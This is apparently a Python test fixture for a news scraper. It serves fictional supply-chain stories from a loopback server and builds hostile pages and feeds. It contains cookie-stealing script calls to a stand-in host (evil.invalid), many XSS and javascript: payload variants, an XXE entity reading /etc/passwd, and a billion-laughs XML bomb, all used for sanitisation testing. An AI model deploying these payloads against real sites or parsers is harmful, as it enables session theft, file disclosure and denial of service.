"""Hostile input written for csrnews' reliability tests: feeds, pages, a loopback web server.

Everything here is fictional and written for this project. `LoopbackSite` serves a dict of
paths on a loopback address of the caller's choice (127.0.0.1, 127.0.0.2, ...: different
host names to Scrapy, so a feed on one and its stories on another are on two hosts).
"""

from __future__ import annotations

import threading
from dataclasses import dataclass, field
from html import escape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

EVIL = "http://evil.invalid"


@dataclass
class Route:
    """One answer: status, content type and body."""

    body: bytes
    content_type: str = "text/html; charset=utf-8"
    status: int = 200
    location: str = ""  # a redirect's target


@dataclass
class LoopbackSite:
    """A threaded HTTP server on HOST:free port serving ``routes``; it logs what it is asked."""

    host: str = "127.0.0.1"
    routes: dict[str, Route] = field(default_factory=dict)
    requests: list[tuple[str, str]] = field(default_factory=list)  # (path, user agent)

    def __post_init__(self) -> None:
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                site.requests.append((self.path, self.headers.get("User-Agent", "")))
                route = site.routes.get(self.path.split("?", 1)[0])
                if route is None:
                    route = Route(b"<!doctype html><title>not found</title>", status=404)
                self.send_response(route.status)
                self.send_header("Content-Type", route.content_type)
                if route.location:
                    self.send_header("Location", route.location)
                self.send_header("Content-Length", str(len(route.body)))
                self.end_headers()
                self.wfile.write(route.body)

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer((self.host, 0), Handler)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    @property
    def url(self) -> str:
        return f"http://{self.host}:{self.server.server_address[1]}"

    def add(
        self,
        path: str,
        body: str | bytes,
        content_type: str = "text/html; charset=utf-8",
        status: int = 200,
    ) -> str:
        """Serve BODY at PATH; returns its full URL."""
        data = body.encode("utf-8") if isinstance(body, str) else body
        self.routes[path] = Route(data, content_type, status)
        return self.url + path

    def redirect(self, path: str, target: str) -> str:
        """Answer PATH with a 301 to TARGET; returns PATH's full URL."""
        self.routes[path] = Route(b"", status=301, location=target)
        return self.url + path

    def asked(self, path: str) -> int:
        return sum(1 for p, _ in self.requests if p.split("?", 1)[0] == path)

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


# Fictional stories (title, date, paragraphs) for the pages the feeds link to.
STORIES = [
    (
        "Harbour city suppliers sign a pledge on overtime limits",
        "2024-03-12",
        [
            "Forty garment suppliers in a harbour city signed a pledge to keep weekly overtime "
            "under twelve hours, after a year of talks with brands and worker groups.",
            "The pledge sets out a monthly audit of time records and a hotline run by a local "
            "labour rights centre, which will publish a summary of complaints each quarter.",
            "Buyers taking part agreed to plan orders earlier so that peak seasons do not push "
            "factories into long shifts, a step the suppliers had asked for.",
        ],
    ),
    (
        "Battery makers publish a joint cobalt sourcing report",
        "2024-05-20",
        [
            "Six battery makers released a joint report on where their cobalt comes from, "
            "naming the smelters they buy from and the audits each smelter passed.",
            "The report lists three smelters that failed an audit last year and the steps "
            "taken since, including two suspended contracts and one new monitoring plan.",
            "An industry association said it would repeat the exercise every year and invite "
            "smaller makers to join the next edition.",
        ],
    ),
    (
        "Textile park opens a shared wastewater treatment plant",
        "2024-07-02",
        [
            "A textile park opened a shared plant that treats the wastewater of twenty dyeing "
            "mills, replacing the small and often idle units each mill ran on its own.",
            "The park authority said the plant cuts chemical oxygen demand in the river below "
            "the park by half, measured at three points over six months of trials.",
            "Mills pay by the volume they send, and the plant publishes its discharge "
            "readings online every hour.",
        ],
    ),
    (
        "Electronics forum agrees a template for supplier self-assessments",
        "2024-09-18",
        [
            "Delegates at an electronics industry forum agreed a common template for supplier "
            "self-assessments on labour, health and safety and the environment.",
            "Suppliers that fill in the template once can share it with every buyer in the "
            "forum, which the organisers said would save weeks of duplicated paperwork.",
            "The template will be tested with one hundred suppliers before the next forum.",
        ],
    ),
]


def story_page(title: str, date: str, paragraphs: list[str], *, hostile: bool = True) -> str:
    """A publisher's article page; with ``hostile`` every kind of active content around it."""
    body = "".join(f"<p>{escape(p)}</p>\n" for p in paragraphs)
    if hostile:
        body = (
            f"<p onclick=\"location='{EVIL}/c?'+document.cookie\">{escape(paragraphs[0])}</p>\n"
            f"<script>fetch('{EVIL}/steal?c='+document.cookie)</script>\n"
            f'<img src="x" onerror="alert(1)"><iframe src="{EVIL}/frame"></iframe>\n'
            f'<p><a href="javascript:alert(1)">{escape(paragraphs[1][:30])}</a>'
            f"{escape(paragraphs[1][30:])}</p>\n"
            f'<svg onload="alert(2)"><circle r="1"/></svg>'
            f'<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/y.swf">\n'
            f'<form action="{EVIL}/login"><input name="p"></form>\n'
            + "".join(f"<p>{escape(p)}</p>\n" for p in paragraphs[2:])
        )
    return (
        "<!doctype html><html><head><meta charset='utf-8'>"
        f"<title>{escape(title)}</title>"
        f'<meta property="article:published_time" content="{date}T09:00:00+08:00">'
        "</head><body><header><nav><a href='/'>Home</a></nav></header>"
        f"<article><h1>{escape(title)}</h1><p class='date'>{date}</p>{body}</article>"
        "<footer>Fictional publisher for tests</footer></body></html>"
    )


def rss(items: list[str], title: str = "Hostile feed") -> str:
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel>'
        f"<title>{title}</title><link>http://feeds.invalid/</link><description>x</description>"
        + "".join(items)
        + "</channel></rss>"
    )


def rss_item(
    link: str,
    title: str,
    description: str,
    date: str = "Tue, 12 Mar 2024 09:00:00 GMT",
    cdata: bool = True,
) -> str:
    desc = f"<![CDATA[{description}]]>" if cdata else escape(description)
    return (
        f"<item><title>{escape(title)}</title><link>{escape(link)}</link>"
        f"<guid>{escape(link)}</guid><pubDate>{date}</pubDate>"
        f"<description>{desc}</description></item>"
    )


ACTIVE = [  # hostile markup a feed entry's own HTML may carry (used when its page is gone)
    "<script>alert(document.cookie)</script><p>Suppliers met in the harbour city.</p>",
    "<p>Forum delegates <img src=x onerror=alert(1)> agreed a template.</p>",
    '<p><a href="javascript:alert(1)">Read</a> the cobalt report.</p>',
    '<p><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">'
    "Obfuscated</a> link in a textile story.</p>",
    '<p><a href="java\nscript:alert(1)">Split</a> scheme in a wastewater story.</p>',
    '<p><a href="JaVaScRiPt:alert(1)">Mixed case</a> scheme, overtime pledge.</p>',
    '<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Data</a> URL.</p>',
    f'<iframe src="{EVIL}/"></iframe><p>Framed battery makers.</p>',
    "<svg><script>alert(1)</script></svg><p>SVG script around a forum.</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
    "</table></mtext></math><p>Mutation markup near a dyeing mill.</p>",
    f'<meta http-equiv="refresh" content="0;url={EVIL}"><p>Refresh to elsewhere.</p>',
    f'<base href="{EVIL}/"><p>A base element before the audit news.</p>',
    '<p style="background:url(javascript:alert(1))">Styled overtime paragraph.</p>',
    f'<form action="{EVIL}"><button formaction="javascript:alert(1)">Go</button></form>'
    "<p>A form near the cobalt news.</p>",
    f'<object data="{EVIL}/a.swf"></object><embed src="{EVIL}/b.swf"><p>Plugins.</p>',
    '<p onmouseover="alert(1)" onfocus=alert(2) autofocus tabindex=1>Handlers everywhere.</p>',
    "<details open ontoggle=alert(1)><summary>x</summary><p>Toggle in a supplier note.</p>"
    "</details>",
    '<a href="vbscript:msgbox(1)">Old scheme</a><p>For an old browser.</p>',
    "<p>Unclosed <b><i>markup <a href='/relative'>in a story about wages",
]

XXE_FEED = (
    '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    '<rss version="2.0"><channel><title>XXE</title><item><title>Entity &xxe; test</title>'
    "<link>{link}</link><description>&xxe; supplier audit</description></item>"
    "</channel></rss>"
)
LAUGHS_FEED = (
    '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">'
    '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;">'
    '<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;"><!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;">]>\n'
    '<rss version="2.0"><channel><title>&h;</title><item><title>Laughs &h;</title>'
    "<link>{link}</link><description>&h;</description></item></channel></rss>"
)
